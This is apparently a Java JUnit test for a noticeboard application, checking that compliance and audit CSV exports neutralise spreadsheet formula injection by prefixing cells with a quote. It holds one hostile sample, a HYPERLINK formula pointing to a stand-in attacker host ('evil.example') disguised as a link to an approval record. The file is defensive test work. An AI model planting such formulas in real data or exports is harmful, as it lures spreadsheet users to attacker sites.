package org.noticeboard.compliance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.noticeboard.access.Access;
import org.noticeboard.access.Role;
import org.noticeboard.account.OfficialAccountService;
import org.noticeboard.audit.AuditQuery;
import org.noticeboard.audit.AuditService;
import org.noticeboard.member.MemberService;
import org.noticeboard.post.PostDraft;
import org.noticeboard.post.PostService;
import org.noticeboard.post.ReviewService;
import org.noticeboard.publish.Publisher;
import org.noticeboard.testing.DomainTestApplication;
import org.noticeboard.testing.FakeTokens;
import org.noticeboard.testing.FakeX;
import org.noticeboard.testing.ShiftableClock;
import org.noticeboard.testing.TestCaller;
import org.noticeboard.testing.World;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;

/**
 * The auditor's CSV exports hold people's text (names, summaries): a cell that a spreadsheet would
 * run as a formula must arrive as text, as in every other export.
 */
@SpringBootTest(classes = DomainTestApplication.class)
class SpreadsheetFormulaExportTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/steal\",\"Open the approval record\")";

    @Autowired World world;
    @Autowired TestCaller caller;
    @Autowired Access access;
    @Autowired MemberService members;
    @Autowired OfficialAccountService accounts;
    @Autowired PostService posts;
    @Autowired ReviewService review;
    @Autowired Publisher publisher;
    @Autowired ComplianceService compliance;
    @Autowired AuditService audit;
    @Autowired FakeX x;
    @Autowired FakeTokens tokens;
    @Autowired ShiftableClock clock;

    World.Org trust;
    long auditor;
    long formulaAuthor;

    @BeforeEach
    void setUp() {
        x.reset();
        tokens.reset();
        clock.reset();
        trust = world.organisation("Spreadsheet Trust");
        auditor = trust.member(Role.AUDITOR);
        String xUserId = String.valueOf(trust.account().id() + 800_000);
        caller.run(trust.member(Role.ACCOUNT_ADMIN), () -> accounts.connect(trust.account().id(), xUserId,
                trust.account().handle().value(), trust.organisation().name()));
        tokens.connect(trust.account().id(), xUserId);
        // a member's display name comes from the identity provider: anyone who can set their own name can write this
        formulaAuthor = access.asSystem(trust.organisation().id(), "test set-up", () -> {
            long id = members.create(FORMULA, null, trust.department().id()).id();
            members.grant(id, Role.STAFF, null);
            return id;
        });
    }

    @AfterEach
    void tearDown() {
        clock.reset();
    }

    long publishedByTheFormulaAuthor() {
        var post = caller.as(formulaAuthor, () -> {
            var draft = posts.save(null, new PostDraft(trust.account().id(), "Falls clinic open on Saturday", null, null,
                    null, List.of(), Map.of()), 0);
            return posts.submit(draft.id(), draft.version());
        });
        var approved = caller.as(trust.member(Role.APPROVER),
                () -> review.approve(post.id(), post.current().number(), post.version()));
        publisher.publish(approved.id());
        return post.id();
    }

    static List<CSVRecord> rows(ByteArrayOutputStream csv) throws IOException {
        var format = CSVFormat.RFC4180.builder().setCommentMarker('#').setHeader().setSkipHeaderRecord(true).get();
        try (var parser = format.parse(new StringReader(csv.toString(StandardCharsets.UTF_8)))) {
            return parser.getRecords();
        }
    }

    @Test
    void a_compliance_row_whose_author_starts_a_formula_is_exported_as_text() throws IOException {
        long postId = publishedByTheFormulaAuthor();
        LocalDate today = clock.instant().atZone(trust.organisation().timeZone()).toLocalDate();
        var csv = new ByteArrayOutputStream();

        caller.run(auditor, () -> compliance.exportCsv(new ComplianceRequest(today.minusDays(1), today.plusDays(1),
                List.of()), csv));

        var row = rows(csv).stream().filter(r -> r.get("post_id").equals(String.valueOf(postId))).findFirst().orElseThrow();
        assertThat(row.get("author")).isEqualTo("'" + FORMULA);
        assertThat(row.get("kind")).isEqualTo("PUBLISHED");
        assertThat(csv.toString(StandardCharsets.UTF_8)).doesNotContain("," + FORMULA.substring(0, 10));
    }

    @Test
    void an_audit_event_whose_actor_and_summary_start_a_formula_is_exported_as_text() throws IOException {
        publishedByTheFormulaAuthor();
        var csv = new ByteArrayOutputStream();

        caller.as(auditor, () -> audit.exportCsv(AuditQuery.all(), csv));

        var rows = rows(csv);
        var byTheAuthor = rows.stream().filter(r -> r.get("actor").contains("HYPERLINK")).toList();
        assertThat(byTheAuthor).isNotEmpty().allSatisfy(r -> assertThat(r.get("actor")).isEqualTo("'" + FORMULA));
        // summaries and changes that name the member (created, granted a role) never begin a formula either
        assertThat(rows).filteredOn(r -> r.get("summary").contains("HYPERLINK"))
                .isNotEmpty()
                .allSatisfy(r -> assertThat(r.get("summary")).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@"));
        // numbers stay numbers
        assertThat(rows).allSatisfy(r -> assertThat(r.get("seq")).matches("\\d+"));
        assertThat(csv.toString(StandardCharsets.UTF_8)).doesNotContain("," + FORMULA.substring(0, 10));
    }
}
